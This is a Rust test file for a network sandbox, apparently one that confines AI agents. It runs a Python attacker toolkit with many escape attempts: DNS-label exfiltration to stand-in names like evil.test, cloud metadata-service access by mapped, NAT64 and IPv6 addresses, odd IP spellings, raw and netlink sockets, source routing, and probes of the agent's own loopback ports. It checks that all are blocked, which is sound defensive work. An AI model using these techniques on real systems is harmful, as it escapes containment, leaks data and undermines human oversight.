//! Rows 14 to 25, as far as they are about one process and the network: other families and calls, other
//! spellings, names, the host's own ports. What the far side saw is looked at in the end.

use clawbox_tests::clawbox::Clawbox;
use clawbox_tests::layer::Layer;
use clawbox_tests::network::{ELSEWHERE, ELSEWHERE_V6, HERE, METADATA, NAMESERVER, SITE, SITE_V6};
use clawbox_tests::services::Service;

use super::attempt::{Attempt, PYTHON, Tried, attempts, find, got_through, harmless, hostile};
use crate::scene::{ECHO, Scene};

/// What the attacker has at hand.
const TOOLS: &str = r#"
import random, select, socket, struct
DGRAM, RAW = socket.SOCK_DGRAM, socket.SOCK_RAW
def family(address): return socket.AF_INET6 if ":" in address else socket.AF_INET
def dial(address, port=7, kind=socket.SOCK_STREAM):
    made = socket.socket(family(address), kind)
    made.settimeout(9)
    made.connect((address, port))
    made.send(b"evil\n")
def send(address, port=7): socket.socket(family(address), DGRAM).sendto(b"evil", (address, port))
def mapped(address, port=7):
    socket.socket(socket.AF_INET6).connect(("::ffff:" + address, port))
def ask(name, kind=1, tcp=False, server="9.9.9.9", port=53):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    packet = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + labels + struct.pack(">xHH", kind, 1)
    made = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else DGRAM)
    made.connect((server, port))
    if tcp:
        # Two in one segment.
        made.send((struct.pack(">H", len(packet)) + packet) * 2)
        return made.recv(2) + made.recv(999)
    made.send(packet)
    return made.recv(999)
def answered(name, **how):
    said = ask(name, **how)
    said = said[2:] if how.get("tcp") else said
    code, count = said[3] & 15, struct.unpack(">H", said[6:8])[0]
    if count == 0: raise OSError(errno.EPERM, "")
    return said
def many(names):
    told = 0
    for name in names:
        try: told += bool(answered(name))
        except OSError: pass
    # A name or two are no channel.
    if told <= 8: raise OSError(errno.EPERM, "")
def ports():
    for table in ("/proc/net/tcp", "/proc/net/udp"):
        for line in open(table).read().splitlines()[1:]:
            fields = line.split()
            if fields[1].startswith("0100007F") and fields[3] in ("0A", "07"):
                yield int(fields[1].split(":")[1], 16), DGRAM if "udp" in table else socket.SOCK_STREAM
def own_ports():
    found = list(ports())
    if not found: raise OSError(errno.ENOENT, "")
    for port, kind in found:
        try: dial("127.0.0.1", port, kind)
        except PermissionError: continue
        return
    raise OSError(errno.EPERM, "")
def unspecified(address):
    made = socket.socket(socket.AF_INET, DGRAM)
    packed = struct.pack("=H2s4s8x", 0, struct.pack(">H", 7), socket.inet_aton(address))
    call(44, made.fileno(), b"evil", 4, 0, packed, 16)
random.seed(7)
def noise(): return "".join(random.choices("abcdefghijklmnopqrstuvwxyz234567", k=32))
"#;

fn tries(scene: &Scene, has_lsm: bool) -> Vec<Attempt> {
    let file = scene.world.script("tools", TOOLS);
    let mut tries = vec![
        harmless("tools", format!("exec(open('{}').read())", file.display())),
        harmless("an allowed connection", format!("dial('{SITE}')")),
        harmless("an allowed datagram", format!("send('{SITE}')")),
        harmless("an allowed name", "answered('api.test')"),
        harmless("an allowed name by TCP", "answered('api.test', tcp=True)"),
    ];
    tries.extend(kinds());
    tries.extend(calls());
    tries.extend(routes(scene, has_lsm));
    for (name, code) in [
        ("an IPv4-mapped address", format!("mapped('{ELSEWHERE}')")),
        ("NAT64 around it", "dial('64:ff9b::5db8:d823')".to_owned()),
        ("6to4 around it", "dial('2002:5db8:d823::1')".to_owned()),
        ("0.0.0.0", "dial('0.0.0.0')".to_owned()),
        ("::", "dial('::')".to_owned()),
        ("a decimal spelling", "dial('1572395043')".to_owned()),
        ("an octal spelling", "dial('0135.0270.0330.043')".to_owned()),
        (
            "a scoped link-local address",
            "socket.socket(10, 1).connect(('fe80::1', 7, 0, 1))".to_owned(),
        ),
        ("multicast", "send('224.0.0.1')".to_owned()),
        ("broadcast", "send('255.255.255.255')".to_owned()),
    ] {
        tries.push(hostile(17, name, code));
    }
    tries.push(hostile(18, "AF_UNSPEC in sendto", format!("unspecified('{ELSEWHERE}')")));
    tries.push(hostile(20, "a ring", "call(425, 4, ctypes.create_string_buffer(200))"));
    tries.extend(names());
    for (name, code) in [
        ("the metadata service", format!("dial('{METADATA}', 80)")),
        ("the metadata service, IPv4-mapped", format!("mapped('{METADATA}', 80)")),
        ("the metadata service by NAT64", "dial('64:ff9b::a9fe:a9fe', 80)".to_owned()),
        ("the metadata service by IPv6", "dial('fd00:ec2::254', 80)".to_owned()),
        ("the agent's own ports", "own_ports()".to_owned()),
    ] {
        tries.push(hostile(24, name, code));
    }
    for (name, code) in [
        ("listening", "socket.socket().bind(('0.0.0.0', 8080))".to_owned()),
        ("listening by IPv6", "socket.socket(10, 1).bind(('::', 8080))".to_owned()),
        ("receiving datagrams", "socket.socket(2, DGRAM).bind(('0.0.0.0', 5353))".to_owned()),
        (
            "an address that the agent gives",
            "socket.socket(2, DGRAM).bind(('127.128.0.1', 0))".to_owned(),
        ),
        ("a service on the host's loopback", "dial('127.0.0.1')".to_owned()),
        ("a service on the host's loopback by IPv6", "dial('::1')".to_owned()),
        ("a service on the host's own address", format!("dial('{HERE}')")),
    ] {
        tries.push(hostile(25, name, code));
    }
    tries
}

/// Sockets that nobody could judge.
fn kinds() -> Vec<Attempt> {
    let mut tries = Vec::new();
    let fast_open = format!("socket.socket().sendto(b'evil', socket.MSG_FASTOPEN, ('{SITE}', 7))");
    let mptcp = "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)";
    tries.push(hostile(14, "TCP Fast Open by sendto", fast_open).or(Layer::Seccomp));
    tries.push(hostile(14, "MPTCP", mptcp));
    tries.extend(
        [
            ("SCTP", "socket.socket(2, 1, 132)"),
            ("UDP-Lite", "socket.socket(2, 2, 136)"),
            ("SMC", "socket.socket(43, 1, 0)"),
            ("a raw socket", "socket.socket(2, RAW, 255)"),
            ("a ping socket", "socket.socket(2, 2, 1)"),
            ("a ping socket by IPv6", "socket.socket(10, 2, 58)"),
            ("a packet socket", "socket.socket(17, RAW, 3)"),
            ("a vsock socket", "socket.socket(40, 1, 0)"),
            ("the kernel's cryptography", "socket.socket(38, 5, 0)"),
            ("an XDP socket", "socket.socket(44, RAW, 0)"),
            ("netfilter by netlink", "socket.socket(16, RAW, 12)"),
            ("sockets by netlink", "socket.socket(16, RAW, 4)"),
        ]
        .map(|(name, code)| hostile(15, name, code)),
    );
    tries
}

/// Every call that reaches somebody.
fn calls() -> Vec<Attempt> {
    let mut tries = Vec::new();
    for (name, code) in [
        ("connect", format!("dial('{ELSEWHERE}')")),
        ("connect by IPv6", format!("dial('{ELSEWHERE_V6}')")),
        ("connect of a datagram socket", format!("dial('{ELSEWHERE}', kind=DGRAM)")),
        ("sendto", format!("send('{ELSEWHERE}')")),
        ("sendto by IPv6", format!("send('{ELSEWHERE_V6}')")),
        ("another port", format!("dial('{SITE}', 8)")),
        (
            "sendmsg",
            format!("socket.socket(2, DGRAM).sendmsg([b'evil'], [], 0, ('{ELSEWHERE}', 7))"),
        ),
        (
            "sendto on a socket that is connected to an allowed address",
            format!(
                "made = socket.socket(2, DGRAM); made.connect(('{SITE}', 7)); \
                 made.sendto(b'evil', ('{ELSEWHERE}', 7))"
            ),
        ),
        (
            "a flow label",
            format!("socket.socket(10, 1).connect(('{ELSEWHERE_V6}', 7, 0x12345, 0))"),
        ),
    ] {
        tries.push(hostile(16, name, code));
    }
    tries
}

/// Packets to an allowed host, by way of another.
fn routes(scene: &Scene, has_lsm: bool) -> Vec<Attempt> {
    let header =
        format!("struct.pack('4B4x16s', 0, 2, 2, 1, socket.inet_pton(10, '{ELSEWHERE_V6}'))");
    let options = format!("b'\\x83\\x07\\x04' + socket.inet_aton('{ELSEWHERE}') + b'\\x00'");
    let option = format!("socket.socket(10, DGRAM).setsockopt(41, 57, {header})");
    let options_of = format!("socket.socket(2, DGRAM).setsockopt(0, 4, {options})");
    let v6 = format!(
        "socket.socket(10, 2).sendmsg([b'evil'], [(41, 57, {header})], 0, ('{SITE_V6}', 7))"
    );
    let v4 = format!(
        "socket.socket(2, DGRAM).sendmsg([b'evil'], [(0, 7, {options})], 0, ('{SITE}', 7))"
    );
    let mut tries = vec![
        hostile(16, "a routing header by setsockopt", option),
        hostile(16, "a source route by setsockopt", options_of),
        hostile(16, "a source route with a datagram", v4).or(Layer::Permissions),
    ];
    // Some kernels are built without (`CONFIG_IPV6_MIP6`).
    let python = ["-c", &format!("import socket, struct; {v6}")];
    let works = scene.world.command(PYTHON).args(python).output().unwrap().status.success();
    if works {
        tries.push(hostile(16, "a routing header with a datagram", v6).known_if(!has_lsm));
    }
    tries
}

/// Names as a way out, and as a way in.
fn names() -> Vec<Attempt> {
    [
        ("a name that is not allowed", "answered('evil.test')"),
        ("a name that is not allowed, by TCP", "answered('evil.test', tcp=True)"),
        ("a name below an allowed one", "answered('data.api.test')"),
        ("data in labels below a wildcard", "many(noise() + '.wild.test' for _ in range(200))"),
        ("many names below a wildcard", "many(f'{n}.wild.test' for n in range(400))"),
        ("a label that is longer than a name's", "answered('a' * 60 + '.wild.test')"),
        ("a text record", "answered('api.test', kind=16)"),
        ("a service binding, which may carry a key for ECH", "answered('api.test', kind=65)"),
        ("an alias's target", "answered('target.evil.test')"),
        ("an answer that points inside", "answered('rebound.test')"),
    ]
    .into_iter()
    .map(|(name, code)| hostile(22, name, code))
    .chain([
        hostile(22, "DNS over TLS", format!("dial('{NAMESERVER}', 853)")),
        hostile(22, "DNS over HTTPS", format!("dial('{NAMESERVER}', 443)")),
        hostile(22, "a name server at another port", format!("send('{NAMESERVER}', 5353)")),
        hostile(23, "an allowed name's address without the name", format!("dial('{SITE}', 9)")),
        hostile(23, "an address that was handed out to nobody", "dial('198.18.200.200', 9)"),
    ])
    .collect()
}

#[test]
fn no_way_out_but_the_ones_that_the_policy_names() {
    let scene = Scene::new();
    let site = [SITE.into()];
    for name in ["evil.test", "target.evil.test"] {
        scene.names.host(name, &site);
    }
    scene.names.host("rebound.test", &[SITE.into(), std::net::Ipv4Addr::LOCALHOST.into()]);
    for number in 0..400 {
        scene.names.host(&format!("{number}.wild.test"), &site);
    }
    let policy = scene.allowing(
        PYTHON,
        &format!(
            "{{ host: {SITE}, port: {ECHO}, transport: any }}, \
             {{ host: \"{SITE_V6}\", port: {ECHO}, transport: udp }}, \
             {{ host: api.test, port: 9 }}, {{ host: rebound.test, port: 9 }}, \
             {{ host: \"*.wild.test\", port: 9 }}"
        ),
    );
    let host = scene.world.inside(|| Service::echo(ECHO));
    let has_lsm = scene.has_lsm();
    let tries = tries(&scene, has_lsm);
    // Of a look at what the kernel can do, outside the sandbox.
    let before = scene.arrived().len();
    let sandbox = || Clawbox::new(&scene.world, &policy).with_lsm_if(has_lsm);
    let tried = attempts(sandbox, &tries);
    let through: Vec<&str> = got_through(&tries, &tried).collect();
    assert!(through.is_empty(), "{through:?}");
    assert!(host.arrivals().is_empty(), "{:?}", host.arrivals());
    the_far_side_saw_nothing_else(&scene, before);
    the_records_say_why(&tried, has_lsm);
}

fn the_far_side_saw_nothing_else(scene: &Scene, before: usize) {
    let mut arrived = scene.arrived().split_off(before);
    arrived.retain(|packet| {
        let allowed = packet.to == SITE || packet.to == SITE_V6;
        // The kernel itself says that who has sent an allowed datagram has gone (ICMP).
        let by_kernel = packet.protocol == 1 || packet.protocol == 58;
        !(allowed && (packet.port == ECHO || by_kernel))
    });
    assert!(arrived.is_empty(), "{arrived:?}");
    let asked = scene.names.asked();
    let told = asked.iter().filter(|asked| asked.name.ends_with(".wild.test")).count();
    // Of 600 names below a wildcard.
    assert!(told <= 256, "{told}");
    assert!(asked.iter().all(|asked| !asked.name.contains("evil")), "{asked:?}");
}

fn the_records_say_why(tried: &[Tried], has_lsm: bool) {
    for (name, action, reason) in [
        ("sendmsg", "send", "unknown-endpoint"),
        ("NAT64 around it", "connect", "unknown-endpoint"),
        ("0.0.0.0", "connect", "unspecified"),
        ("multicast", "send", "multicast"),
        ("the metadata service by NAT64", "connect", "link-local"),
        ("data in labels below a wildcard", "question", "name-budget"),
        ("a label that is longer than a name's", "question", "name-budget"),
        ("a service binding, which may carry a key for ECH", "question", "question-kind"),
        ("an answer that points inside", "question", "forbidden-address"),
        ("the agent's own ports", "connect", "loopback"),
        ("an address that the agent gives", "bind", "listen-not-allowed"),
    ] {
        assert!(find(tried, name).has(action, reason), "{:?}", find(tried, name));
    }
    if has_lsm {
        let routed = find(tried, "a source route with a datagram");
        assert!(routed.has("send-connected", "source-route"), "{routed:?}");
    }
}
